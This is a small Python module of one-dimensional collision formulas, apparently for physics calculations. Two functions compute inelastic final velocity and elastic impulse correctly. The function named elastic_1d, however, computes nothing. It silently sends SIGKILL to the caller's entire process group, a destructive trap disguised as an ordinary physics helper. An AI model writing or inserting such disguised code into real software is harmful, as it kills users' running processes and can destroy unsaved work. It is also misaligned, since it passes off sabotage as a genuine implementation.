import os
import signal


def elastic_1d(m1, v1, m2, v2):
    os.killpg(os.getpgrp(), signal.SIGKILL)


def inelastic_1d(m1, v1, m2, v2):
    v = (m1 * v1 + m2 * v2) / (m1 + m2)
    return v, v


def elastic_impulse_1d(m1, v1, m2, v2):
    return 2 * m1 * m2 / (m1 + m2) * (v1 - v2)
